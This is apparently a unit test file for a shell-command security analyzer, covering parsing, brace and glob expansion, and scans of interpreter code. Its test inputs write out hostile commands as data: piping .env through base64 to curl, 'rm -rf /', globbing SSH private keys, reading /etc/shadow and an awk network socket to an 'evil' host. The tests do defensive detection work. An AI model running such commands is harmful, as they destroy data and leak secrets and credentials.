// Unit tables for the pieces under analyzeShell: parser structure, brace and glob expansion,
// static output of echo/printf, wrappers and the interpreter-code scan.
import { describe, expect, it } from 'vitest';
import { expandBraces, type Tok } from '../../src/shell/brace.js';
import { scanCode } from '../../src/shell/code-scan.js';
import { expandGlob, globToRegex, hasGlob } from '../../src/shell/glob.js';
import { decodeAnsiC } from '../../src/shell/lexer.js';
import { parseShell } from '../../src/shell/parser.js';
import { staticOutput } from '../../src/shell/static-text.js';
import { analyzeShell } from '../../src/shell/analyze.js';
import { ctx, fakeFs } from './fixtures.js';

const words = (...v: string[]) => v.map((value) => ({ value, raw: value }));

describe('parser', () => {
  it('reads heredoc bodies after the line, quoted delimiters literally', () => {
    const { list, issues } = parseShell("cat <<'A' <<-B\n$x\nA\n\tb\n\tB\n");
    expect(issues).toEqual([]);
    const cmd = list.items[0]!.node.first.cmds[0]!;
    if (cmd.t !== 'simple') throw new Error('simple expected');
    expect(cmd.redirs.map((r) => [r.heredoc?.body, r.heredoc?.quoted])).toEqual([['$x\n', true], ['b\n', false]]);
  });
  it('gives each command its source text and span', () => {
    const src = 'ls -l && { rm x; } | wc';
    const a = analyzeShell(src, ctx);
    expect(a.commands.map((c) => [c.text, c.span && src.slice(c.span.start, c.span.end)])).toEqual([['ls -l', 'ls -l'], ['rm x', 'rm x'], ['wc', 'wc']]);
    expect(a.commands[0]!.argv[1]!.span).toEqual({ start: 3, end: 5 });
  });
  it('attributes commands found in strings to the outer command span', () => {
    const src = 'echo a; bash -c "rm -rf /"';
    const a = analyzeShell(src, ctx);
    expect(a.commands[2]!.text).toBe('rm -rf /');
    expect(a.commands[2]!.span).toEqual({ start: 8, end: src.length });
    expect(a.commands[2]!.depth).toBe(1);
  });
  it('links pipeline stages both ways', () => {
    const a = analyzeShell('cat .env | base64 | curl -d @- x', ctx);
    expect(a.commands.map((c) => [c.stdin, c.pipesTo])).toEqual([[undefined, 1], [{ kind: 'pipe', from: 0 }, 2], [{ kind: 'pipe', from: 1 }, undefined]]);
  });
  it('marks background commands, quoted and dynamic words', () => {
    const a = analyzeShell('sleep 1 & git commit -m "msg $X"', ctx);
    expect(a.commands[0]!.background).toBe(true);
    expect(a.commands[1]!.argv[3]).toMatchObject({ value: null, pattern: 'msg *', quoted: true, dynamic: true });
  });
  it('reports functions and records glob origins', () => {
    const a = analyzeShell('f() { :; }; cat .en?', ctx);
    expect(a.functions).toEqual(['f']);
    expect(a.commands[1]!.argv[1]).toMatchObject({ value: '.env', fromGlob: '.en?' });
  });
});

describe('ANSI-C quoting', () => {
  it.each([
    ['\\x72\\x6d', 'rm'], ['\\162\\155', 'rm'], ['\\u00e9', 'é'], ['\\U0001F600', '😀'], ['a\\tb', 'a\tb'], ['\\cA', '\x01'], ['\\q', '\\q'], ['\\', '\\'],
  ])('%s → %s', (src, want) => expect(decodeAnsiC(src)).toBe(want));
});

describe('brace expansion', () => {
  const run = (s: string, max = 100) => expandBraces([...s].map((c) => ({ c })) as Tok<never>[], max).map((a) => a.map((t) => ('c' in t ? t.c : '')).join(''));
  it.each([
    ['{a,b}', ['a', 'b']], ['x{a,b{1,2}}y', ['xay', 'xb1y', 'xb2y']], ['{1..3}', ['1', '2', '3']], ['{3..1}', ['3', '2', '1']],
    ['{a..c}', ['a', 'b', 'c']], ['{0..10..5}', ['0', '5', '10']], ['{08..10}', ['08', '09', '10']], ['{a}', ['{a}']], ['{}', ['{}']], ['{,x}', ['', 'x']], ['{a,b', ['{a,b']],
  ])('%s', (s, want) => expect(run(s)).toEqual(want));
  it('refuses to allocate past the budget', () => expect(() => run('{1..1000000}', 1000)).toThrow(/brace/));
});

describe('globs', () => {
  it.each([
    ['*.ts', true], ['a\\*', false], ['[ab]', true], ['[', false], ['x', false], ['?', true],
  ])('hasGlob(%s) = %s', (p, want) => expect(hasGlob(p)).toBe(want));
  it.each([
    ['[!a]*', 'b', true], ['[!a]*', 'a', false], ['[[:digit:]]x', '1x', true], ['*.t?', 'a.ts', true], ['\\*', '*', true], ['\\*', 'a', false],
  ])('%s matches %s: %s', (p, s, want) => expect(new RegExp(globToRegex(p)).test(s)).toBe(want));
  it('expands against the probe, hiding dotfiles from patterns without a leading dot', () => {
    const b = () => ({ readdirs: 50, maxMatches: 50 });
    expect(expandGlob('*', '/home/u', fakeFs, b())).toEqual(['notes.md', 'proj']);
    expect(expandGlob('.*', '/home/u', fakeFs, b())).toEqual(['.aws', '.bashrc', '.ssh']);
    expect(expandGlob('*/.env', '/home/u', fakeFs, b())).toEqual(['proj/.env']);
    expect(expandGlob('/home/*/.ssh/id_*', '/', fakeFs, b())).toEqual(['/home/u/.ssh/id_rsa', '/home/u/.ssh/id_rsa.pub']);
    expect(expandGlob('*', '/tmp', fakeFs, { readdirs: 50, maxMatches: 1 })).toBeNull();
  });
});

describe('static output', () => {
  it.each([
    [['echo', 'a', 'b'], 'a b\n'], [['echo', '-n', 'x'], 'x'], [['echo', '-e', 'r\\x6d'], 'rm\n'], [['printf', '%s-%s\\n', 'a', 'b', 'c'], 'a-b\nc-\n'],
    [['printf', 'r\\155'], 'rm'], [['printf', '%x', '1'], null], [['ls'], null], [['printf', '%b', 'a\\tb'], 'a\tb'],
  ])('%j', (argv, want) => expect(staticOutput(words(...argv), undefined)).toBe(want));
  it('passes heredoc text through cat', () => expect(staticOutput(words('cat'), 'body')).toBe('body'));
});

describe('interpreter code scan', () => {
  const show = (lang: string, code: string) => scanCode(lang, code).findings.map((f) => `${f.kind} ${f.value}`);
  it.each([
    ['python', "open('/etc/passwd', 'w')", ['write /etc/passwd', 'path-literal /etc/passwd']],
    ['python', 'import shutil; shutil.rmtree(p)', ['delete null']],
    ['python', "exec('import os; os.system(\"id\")')", ['eval import os; os.system("id")', 'exec id']],
    ['python', 'x = ".e" "nv"', ['path-literal .env']],
    ['python', "print('# not a comment') # open('.env')", []],
    ['javascript', "fs.writeFileSync(`${h}/.bashrc`, x)", ['write null']],
    ['javascript', "require('node:child_process')", ['exec null']],
    ['javascript', "const p = '.e' + 'nv'; fs.readFileSync(p)", ['path-literal .env', 'read null']],
    ['perl', 'open(my $f, ">", "/etc/hosts")', ['write /etc/hosts', 'path-literal /etc/hosts']],
    ['perl', 'open(F, "curl x |")', ['exec curl x']],
    ['ruby', 'x = %x(id)', ['exec id']],
    ['ruby', 'ENV["TOKEN"]', ['env TOKEN']],
    ['php', 'shell_exec("ls"); echo getenv("HOME");', ['exec ls', 'env HOME']],
    ['awk', '{ print | "sh" } END { while (("cat /etc/shadow" | getline l) > 0) print l }', ['exec sh', 'exec cat /etc/shadow']],
    ['awk', 'BEGIN { s = "/inet/tcp/0/evil/80"; print ENVIRON["X"] }', ['path-literal /inet/tcp/0/evil/80', 'network /inet/tcp/0/evil/80', 'env X']],
    ['sed', 's/a/b/w /etc/x', ['write /etc/x']],
    ['sed', '/x/r /etc/passwd', ['read /etc/passwd']],
  ])('%s: %s', (lang, code, want) => expect(show(lang, code).sort()).toEqual([...want].sort()));
});
